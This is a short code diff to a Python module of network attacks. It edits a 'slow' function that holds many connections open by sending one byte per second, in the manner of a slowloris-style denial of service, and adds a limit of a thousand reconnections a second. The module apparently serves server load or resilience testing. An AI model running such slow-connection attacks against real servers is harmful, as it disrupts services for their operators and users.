@@ -65,7 +65,10 @@ def endless(start: bytes, piece: bytes) -> Attack:
 
 
 def slow(start: bytes, connections: int, addresses: int = 1) -> Attack:
-    """Keeps connections open which begin like this and send one more byte every second."""
+    """Keeps connections open which begin like this and send one more byte every second.
+
+    Those that the server closes are opened again, at most a thousand a second.
+    """
 
     def attack(address: Address, stop: Event) -> None:
         sources = itertools.cycle(range(addresses))
@@ -77,6 +80,7 @@ def slow(start: bytes, connections: int, addresses: int = 1) -> Attack:
                     connection.sendall(start)
                     connection.settimeout(0)
                     opened.append(connection)
+                stop.wait(0.001)
             stop.wait(1)
             opened = [connection for connection in opened if goes_on(connection)]
 
